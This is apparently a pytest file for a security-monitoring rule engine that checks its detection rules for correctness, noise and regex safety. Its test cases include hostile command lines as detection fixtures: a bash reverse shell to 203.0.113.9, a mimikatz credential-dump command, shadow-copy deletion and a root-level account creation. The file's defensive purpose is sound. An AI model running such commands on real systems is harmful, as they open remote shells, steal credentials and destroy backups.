"""The shipped rules: examples beside each, nothing that floods, nothing that hostile text can slow down."""

import re
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from time import process_time

import pytest

from soc_core import Event
from soc_core.builtin.rule import Rule
from soc_core.builtin.rule_book import RuleBook, rule_anchors
from soc_core.builtin.rule_examples import test_rules
from soc_core.builtin.rules import Rules
from soc_core.builtin.triggers import Triggers
from soc_core.scan import Scanner

RULES = Rules()
NOW = datetime(2026, 1, 1, tzinfo=UTC)
PATTERNS = sorted(
    {
        pattern.source
        for rule in RULES.rules
        for group in (rule.all, *rule.any, *rule.unless)
        for patterns in group.texts
        for pattern in patterns
    }
)


def seen(message: str, source: str = "app", **known: object) -> tuple[float, bool]:
    """Severity and whether there is a ticket."""
    event = Event(source=source, message=message, received=NOW, **known)  # type: ignore[arg-type]
    finding = RULES.classify_event(event)
    if finding is None:
        return 0.0, False
    return finding.severity, Triggers().should_create_ticket(finding).course == "ticket"


def test_there_are_hundreds_of_rules() -> None:
    assert len(RULES.rules) >= 250


def test_every_example_beside_every_rule_holds() -> None:
    failed = [result for result in test_rules(RULES.rules) if result.problem]
    assert failed == []


def test_every_rule_has_an_example_that_matches_and_one_that_does_not() -> None:
    bare = [rule.id for rule in RULES.rules if {example.match for example in rule.examples} != {True, False}]
    assert bare == []


def test_every_rule_is_filed_under_something_so_that_none_is_asked_about_every_line() -> None:
    assert [rule.id for rule in RULES.rules if not rule_anchors(rule)] == []


def test_every_serious_rule_names_a_technique_or_is_about_operations() -> None:
    serious = [rule for rule in RULES.rules if rule.severity >= 8 and rule.security]
    assert [
        rule.id for rule in serious if not (rule.attack or rule.references or "finding" in rule.id or "hub" in rule.id)
    ] == []


@pytest.mark.parametrize("source", PATTERNS)
def test_patterns_compile_under_re2_and_none_matches_nothing(source: str) -> None:
    re2 = pytest.importorskip("re2")
    assert re2.compile(f"(?i){source}").search("") is None
    assert re.compile(source, re.IGNORECASE | re.ASCII).search("") is None


BAIT = (
    "a" * 2000,
    "../" * 600,
    "Failed password for " * 100,
    '"GET /' + "%20" * 600,
    "login " * 330,
    "powershell -e " * 140,
    "user=" * 400,
    " \t" * 1000,
    "((((((" * 300,
    "\\" * 2000,
    "${" * 1000,
)


@pytest.mark.parametrize("bait", BAIT, ids=range(len(BAIT)))
def test_hostile_text_takes_no_more_than_a_moment(bait: str) -> None:
    began = process_time()
    seen(bait)
    seen(bait * 100)
    assert process_time() - began < 30  # a pattern that explodes would take hours


@pytest.mark.parametrize(
    ("message", "source"),
    [
        ("Failed password for root from 203.0.113.7 port 22 ssh2", "sshd"),
        ("authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root", "sshd"),
        ("Accepted publickey for deploy from 10.0.0.7 port 22 ssh2", "sshd"),
        (
            "[ReplicaFetcher replicaId=1, leaderId=2, fetcherId=0] Error sending fetch request to node 2",
            "kafka",
        ),
        (
            '10.0.0.9 - - [10/Oct/2025:13:55:36 +0000] "GET /admin/users?sort=name HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
            "nginx",
        ),
        ("INFO Deleted segment files of partition test-0 from the log directory", "kafka"),
        ('level=info msg="backup finished" job=nightly duration=12s', "backup"),
        ("debug: user preferences disabled animations", "app"),
    ],
)
def test_ordinary_lines_make_no_ticket(message: str, source: str) -> None:
    severity, ticket = seen(message, source)
    assert not ticket
    assert severity < 6


@pytest.mark.parametrize(
    ("message", "source"),
    [
        ("vssadmin.exe delete shadows /all /quiet", "process"),
        ("The audit log was cleared. Subject: Security ID: S-1-5-21", "windows"),
        ("new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash", "useradd"),
        ("exec: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell"),
        ("sekurlsa::logonpasswords", "edr"),
    ],
)
def test_what_nobody_does_by_accident_makes_a_ticket(message: str, source: str) -> None:
    assert seen(message, source)[1]


def test_a_rule_book_finds_the_same_rules_alone_and_together() -> None:
    together = RuleBook(RULES.rules)
    for rule in RULES.rules:
        for number, example in enumerate(rule.examples):
            event = Event(
                source=example.source,
                message=example.text,
                received=NOW,
                fields=example.fields,
                severity=example.stated,
            )
            [(_, alone)] = RuleBook([rule]).matching([event])
            [(_, found)] = together.matching([event])
            assert bool(alone) is (rule in found) is example.match, f"{rule.id} example {number + 1}"


def test_no_rule_but_those_meant_to_make_a_ticket_from_a_mere_login_or_request() -> None:
    quiet = {
        "web-access",
        "web-client-error",
        "sshd-login",
        "pam-session",
        "windows-logon",
        "aws-read-only",
        "k8s-looked",
    }
    rules: dict[str, Rule] = {rule.id: rule for rule in RULES.rules}
    assert all(rules[identity].severity <= 3 for identity in quiet)


MOST = 5
"""Of some everyday lines of everyday programs, how many one rule may want to see."""

LINES = Path(__file__).with_name("everyday.log").read_bytes()


def test_no_rule_wants_to_look_at_many_everyday_lines() -> None:
    scanner = Scanner([("rules", pattern) for pattern in RULES.register_patterns()])
    found = scanner.candidates(LINES)
    wanted = Counter(hit for candidate in found for hit in candidate.hits)
    assert {name: count for name, count in wanted.items() if count > MOST} == {}, "tell them by rarer words or values"
